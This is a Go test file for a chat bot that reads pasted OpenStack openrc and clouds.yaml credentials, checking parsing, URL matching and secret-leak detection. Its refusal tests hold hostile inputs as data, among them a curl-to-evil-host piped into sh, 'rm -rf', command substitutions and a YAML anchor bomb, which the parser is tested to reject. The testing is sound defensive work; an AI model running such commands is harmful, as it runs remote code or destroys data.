package commands

import (
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"pgregory.net/rapid"

	"github.com/stackhand/stackhand"
)

// horizonRC is what the dashboard of a cloud of today gives.
const horizonRC = `#!/usr/bin/env bash
# To use an OpenStack cloud you need to authenticate against the Identity
export OS_AUTH_URL=https://cloud.example.com:5000
export OS_PROJECT_ID=6f70656e737461636b2069732066756e
export OS_PROJECT_NAME="team-a"
export OS_USER_DOMAIN_NAME="Default"
if [ -z "$OS_USER_DOMAIN_NAME" ]; then unset OS_USER_DOMAIN_NAME; fi
export OS_PROJECT_DOMAIN_ID="default"
if [ -z "$OS_PROJECT_DOMAIN_ID" ]; then unset OS_PROJECT_DOMAIN_ID; fi
# unset v2.0 items in case set
unset OS_TENANT_ID
unset OS_TENANT_NAME
export OS_USERNAME="alice"
# With Keystone you pass the keystone password.
echo "Please enter your OpenStack Password for project $OS_PROJECT_NAME as user $OS_USERNAME: "
read -sr OS_PASSWORD_INPUT
export OS_PASSWORD=$OS_PASSWORD_INPUT
export OS_REGION_NAME="RegionOne"
# Don't leave a blank variable, unset it if it was empty
if [ -z "$OS_REGION_NAME" ]; then unset OS_REGION_NAME; fi
export OS_INTERFACE=public
export OS_IDENTITY_API_VERSION=3
`

func TestReadPaste(t *testing.T) {
	const id = "6f70656e737461636b2069732066756e"
	for name, c := range map[string]struct {
		text string
		want []pasted
	}{
		"a dashboard's": {horizonRC, []pasted{{authURL: "https://cloud.example.com:5000", region: "RegionOne", login: stackhand.Login{
			AuthType: authPassword, Username: "alice", ProjectID: id, UserDomain: "Default", ProjectDomainID: "default"}}}},
		"an old one's": {"export OS_AUTH_URL=http://x:5000/v2.0\r\nexport OS_TENANT_NAME=demo\r\nexport OS_USERNAME=demo\r\nexport OS_PASSWORD='it'\\''s \"$ecret'\r\n",
			[]pasted{{authURL: "http://x:5000/v2.0", login: stackhand.Login{AuthType: authPassword, Username: "demo", Password: `it's "$ecret`, ProjectName: "demo"}}}},
		"without export": {"OS_USERNAME=a # me\nOS_PASSWORD=\"a\\\"b\\$c\\\\d\\e\"\nPS1='> '",
			[]pasted{{login: stackhand.Login{AuthType: authPassword, Username: "a", Password: `a"b$c\d\e`}}}},
		"application credential": {"export OS_AUTH_TYPE=v3applicationcredential\nexport OS_AUTH_URL=http://x/\nexport OS_APPLICATION_CREDENTIAL_ID=abc\nexport OS_APPLICATION_CREDENTIAL_SECRET=s\nexport OS_PROJECT_NAME=p",
			[]pasted{{authURL: "http://x/", login: stackhand.Login{AuthType: authAppCred, AppCredID: "abc", AppCredSecret: "s"}}}},
		"a token": {"export OS_TOKEN=gAAAA\nexport OS_PROJECT_ID=p", []pasted{{login: stackhand.Login{AuthType: authToken, Token: "gAAAA", ProjectID: "p"}}}},
		"clouds.yaml": {"clouds:\n  a:\n    auth:\n      auth_url: http://x:5000/v3\n      username: alice\n      password: 1234567\n      project_name: 1e3\n      user_domain_name: Default\n    region_name: R2\n" +
			"  b:\n    auth_type: v3applicationcredential\n    auth: {auth_url: 'http://y', application_credential_id: i, application_credential_secret: s}\n",
			[]pasted{{name: "a", authURL: "http://x:5000/v3", region: "R2", login: stackhand.Login{AuthType: authPassword, Username: "alice", Password: "1234567", ProjectName: "1e3", UserDomain: "Default"}},
				{name: "b", authURL: "http://y", login: stackhand.Login{AuthType: authAppCred, AppCredID: "i", AppCredSecret: "s"}}}},
		"an entry alone": {"# mine\nauth:\n  auth_url: http://x\n  username: u\n  password: 'p'\n  tenant_name: t\n",
			[]pasted{{authURL: "http://x", login: stackhand.Login{AuthType: authPassword, Username: "u", Password: "p", ProjectName: "t"}}}},
	} {
		t.Run(name, func(t *testing.T) {
			got, err := readPaste(c.text)
			if err != nil {
				t.Fatal(err)
			}
			// A Login hides itself from whoever prints it.
			if !slices.Equal(got, c.want) {
				t.Errorf("got %s\nwant %s", inClear(got), inClear(c.want))
			}
		})
	}
}

// inClear shows what a test pasted, secrets too.
func inClear(all []pasted) string {
	type plain stackhand.Login
	var b strings.Builder
	for _, p := range all {
		b.WriteString(cmp.Diff(plain{}, plain(p.login)) + p.name + " " + p.authURL + " " + p.region + "\n")
	}
	return b.String()
}

func TestReadPasteRefuses(t *testing.T) {
	const s = "hunter2"
	for name, c := range map[string]struct{ text, want string }{
		"a command":       {"export OS_USERNAME=a\ncurl http://evil/" + s + " | sh\n", "^Line 2 of what you pasted is none of an openrc"},
		"a substitution":  {"export OS_PASSWORD=$(echo " + s + ")", "value in line 1 .* not a plain text"},
		"backticks":       {"export OS_PASSWORD=`" + s + "`", "line 1"},
		"in quotes":       {"export OS_PASSWORD=\"" + s + "$(id)\"", "line 1"},
		"another's value": {"export OS_PASSWORD=" + s + "$X", "line 1"},
		"two commands":    {"export OS_USERNAME=a; rm -rf " + s, "line 1"},
		"an open quote":   {"export OS_PASSWORD='" + s, "line 1"},
		"two words":       {"export OS_PASSWORD=" + s + " b", "line 1"},
		"nobody":          {"export OS_AUTH_URL=http://x\nexport OS_PASSWORD=" + s, "names no user"},
		"by name":         {"export OS_APPLICATION_CREDENTIAL_NAME=n\nexport OS_APPLICATION_CREDENTIAL_SECRET=" + s, "given by its name"},
		"broken yaml":     {"clouds:\n  a: {auth: {password: " + s + "\n  b: ]", "^Line [0-9]+ of what you pasted is not valid"},
		"odd yaml":        {"clouds:\n  a:\n    auth: [" + s + "]\n", "not valid"},
		"a vendor":        {"clouds:\n  a:\n    profile: other\n    auth: {username: a, password: " + s + "}\n", "profile"},
		"a bomb":          {"a: &a [" + s + "]\nclouds: {x: [*a, *a]}", "^Line 1 .* an anchor"},
		"long":            {strings.Repeat("#"+s+"\n", 1<<14), "too long"},
		"nothing of it":   {s, "Line 1"},
	} {
		_, err := readPaste(c.text)
		if stackhand.KindOf(err) != stackhand.Invalid {
			t.Errorf("%s: %v", name, err)
			continue
		}
		expect(t, err.Error(), c.want)
		if strings.Contains(inForm(err), s) {
			t.Errorf("%s: the error repeats the secret: %s", name, inForm(err))
		}
	}
}

// shellQuoted writes a value as a shell would have it: bare, in single or in double quotes, or in pieces.
func shellQuoted(t *rapid.T, value string) string {
	var b strings.Builder
	for len(value) > 0 {
		n := rapid.IntRange(1, len(value)).Draw(t, "piece")
		piece := value[:n]
		value = value[n:]
		switch rapid.IntRange(0, 2).Draw(t, "quotes") {
		case 0:
			b.WriteString("'" + strings.ReplaceAll(piece, "'", `'\''`) + "'")
		case 1:
			b.WriteString(`"` + strings.NewReplacer(`\`, `\\`, `"`, `\"`, "$", `\$`, "`", "\\`").Replace(piece) + `"`)
		default:
			for _, c := range []byte(piece) {
				b.WriteString(`\` + string(rune(c)))
			}
		}
	}
	return b.String()
}

// Whatever a secret looks like, an openrc that quotes it well gives it back.
func TestOpenrcGivesBack(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		secret := rapid.StringMatching(`[ -~]{1,30}`).Draw(t, "secret")
		text := "export OS_USERNAME=u\nexport OS_PASSWORD=" + shellQuoted(t, secret) + rapid.SampledFrom([]string{"", " ", " # me", "\t"}).Draw(t, "end") + "\n"
		got, err := readOpenrc(text)
		if err != nil || got.login.Password != secret {
			t.Fatalf("%q gave %q, %v; want %q", text, got.login.Password, err, secret)
		}
	})
}

func TestAuthRoot(t *testing.T) {
	for _, c := range []struct {
		a, b string
		same bool
	}{
		{"http://x:5000/v3", "http://x:5000", true}, {"http://x:5000/v3/", "HTTP://X:5000/v2.0", true}, {"https://x/identity", "https://x:443/identity/v3", true},
		{"http://x:5000", "https://x:5000", false}, {"http://x:5000", "http://x:5001", false}, {"http://x/a", "http://x/b", false},
		{"http://x.evil:5000", "http://x:5000", false}, {"http://x:5000@evil/", "http://x:5000", false}, {"", "", false}, {"x:5000", "x:5000", false},
		{"http://[::1]:5000/v3", "http://[::1]:5000", true}, {"http://x/v3/v3", "http://x", false},
	} {
		if sameAuth(c.a, c.b) != c.same || sameAuth(c.b, c.a) != c.same {
			t.Errorf("%s and %s: want the same: %v", c.a, c.b, c.same)
		}
	}
}

func FuzzReadPaste(f *testing.F) {
	f.Add(horizonRC)
	f.Add("clouds:\n  a:\n    auth: {auth_url: http://x, username: u, password: p}\n")
	f.Add("export OS_PASSWORD='a'\"b\"\\c # d")
	f.Add("auth: &a {username: *a}")
	f.Fuzz(func(t *testing.T, text string) {
		all, err := readPaste(text)
		if err != nil {
			if stackhand.KindOf(err) != stackhand.Invalid {
				t.Fatalf("not an error for people: %v", err)
			}
			return
		}
		for _, p := range all {
			if l := p.login; l.AppCredID == "" && l.Username == "" && l.Token == "" {
				t.Fatalf("a login of nobody from %q", text)
			}
		}
	})
}

// pasteInto opens the form of lab and sends it with a paste.
func pasteInto(t *testing.T, env *Env, more map[string]string) (Reply, map[string]string) {
	t.Helper()
	set := env.Settings.Clouds["lab"]
	set.AuthURL, set.Region = "https://cloud.example.com:5000/v3", "RegionOne"
	env.Settings.Clouds["lab"] = set
	env.Settings.Clouds["moon"] = CloudSettings{AuthURL: "http://moon:5000"}
	r, err := say(t, env, bob, "login lab")
	if err != nil {
		t.Fatal(err)
	}
	got, wrong, err := submit(t, env, bob, r.Form, more)
	if err != nil {
		t.Fatal(err)
	}
	return got, wrong
}

func TestPasteIntoTheForm(t *testing.T) {
	rc := func(url, more string) string {
		return "export OS_AUTH_URL=" + url + "\nexport OS_USERNAME=bob\n" + more
	}
	const here, password = "https://cloud.example.com:5000", "export OS_PASSWORD=bob-secret\n"
	for name, c := range map[string]struct {
		values      map[string]string
		want, wrong string
	}{
		"whole":             {map[string]string{"paste": rc(here, password)}, "logged in to lab as bob, project team-b", ""},
		"no address":        {map[string]string{"paste": "OS_USERNAME=bob\n" + password}, "logged in to lab as bob", ""},
		"password typed":    {map[string]string{"paste": rc(here, ""), "password": "bob-secret"}, "logged in to lab as bob", ""},
		"its project":       {map[string]string{"paste": rc(here, password+"OS_PROJECT_NAME=team-a"), "project_name": "team-b"}, "project team-a", ""},
		"typed project":     {map[string]string{"paste": rc(here, password), "project_name": "team-a"}, "project team-a", ""},
		"yaml":              {map[string]string{"paste": "clouds:\n  far: {auth: {auth_url: 'http://moon:5000', username: x, password: y}}\n  near: {auth: {auth_url: '" + here + "', username: bob, password: bob-secret}}"}, "logged in to lab as bob", ""},
		"of another cloud":  {map[string]string{"paste": rc("http://moon:5000/v3", password)}, "", "not for lab but for the cloud moon .`login moon` opens its form."},
		"of somebody else":  {map[string]string{"paste": rc("https://evil.example.com:5000/v3", password)}, "", "for evil.example.com:5000, which is no cloud of this bot"},
		"of nothing":        {map[string]string{"paste": rc("nonsense", password)}, "", "an address that cannot be read"},
		"two for one cloud": {map[string]string{"paste": "clouds:\n  a: {auth: {auth_url: '" + here + "', username: x}}\n  b: {auth: {auth_url: '" + here + "/v3', username: y}}"}, "", "Several of the entries are for lab: a, b"},
		"unreadable":        {map[string]string{"paste": "rm -rf /"}, "", "Line 1"},
		"wrong password":    {map[string]string{"paste": rc(here, "OS_PASSWORD=x")}, "", "does not accept this login"},
	} {
		t.Run(name, func(t *testing.T) {
			_, env := newWorld()
			got, wrong := pasteInto(t, env, c.values)
			if c.want != "" {
				expect(t, got.Text.String(), c.want)
			}
			if c.wrong != "" {
				expect(t, wrong["paste"]+wrong["password"], c.wrong)
			}
		})
	}
}

// A file that asks for the password when it is run is answered by a form that asks for it, and knows the rest.
func TestPasteWithoutPassword(t *testing.T) {
	w, env := newWorld()
	got, wrong := pasteInto(t, env, map[string]string{"paste": strings.ReplaceAll(horizonRC, "alice", "bob")})
	if len(wrong) > 0 || got.Form == nil {
		t.Fatalf("%+v %v", got, wrong)
	}
	value := map[string]string{}
	for _, in := range got.Form.Inputs {
		value[in.ID] = in.Value
	}
	if value["username"] != "bob" || value["project_id"] == "" || value["project_name"] != "" || value["user_domain_name"] != "Default" {
		t.Errorf("the form knows %v", value)
	}
	done, wrong, err := submit(t, env, bob, got.Form, map[string]string{"password": "bob-secret"})
	if err != nil || len(wrong) > 0 {
		t.Fatal(err, wrong)
	}
	expect(t, done.Text.String(), "logged in to lab as bob")
	if w.tried.ProjectDomainID != "default" || w.tried.UserDomain != "Default" {
		t.Errorf("the domains got lost: %q, %q", w.tried.ProjectDomainID, w.tried.UserDomain)
	}
}

// The region of a paste is where one works then; one that is not there is said.
func TestPasteWithRegion(t *testing.T) {
	for region, want := range map[string]string{"RegionOne": "Try create NAME.$", "RegionTwo": "You work in its region RegionTwo"} {
		_, env := newWorld()
		got, _ := pasteInto(t, env, map[string]string{"paste": "OS_USERNAME=bob\nOS_PASSWORD=bob-secret\nOS_REGION_NAME=" + region})
		expect(t, got.Text.String(), want)
	}
	w, env := newWorld()
	w.fail["Choose"] = stackhand.Errorf(stackhand.NotFound, "lab has no region Mars.")
	got, _ := pasteInto(t, env, map[string]string{"paste": "OS_USERNAME=bob\nOS_PASSWORD=bob-secret\nOS_REGION_NAME=Mars"})
	expect(t, got.Text.String(), "logged in.*Its region Mars cannot be used: lab has no region Mars.")
}

// An openrc that was typed into a channel is a leak as soon as it holds a secret.
func TestPasteInAChannel(t *testing.T) {
	for _, text := range []string{"export OS_USERNAME=a\nexport OS_PASSWORD=x", "```OS_PASSWORD=\"x\"```", "clouds:\n a:\n  auth:\n   password: x", "OS_APPLICATION_CREDENTIAL_SECRET=x", "OS_TOKEN=x", "    token: gAAAAABkU2VjcmV0U2VjcmV0"} {
		if _, yes := Secretlike(text); !yes {
			t.Errorf("%q passes", text)
		}
	}
}
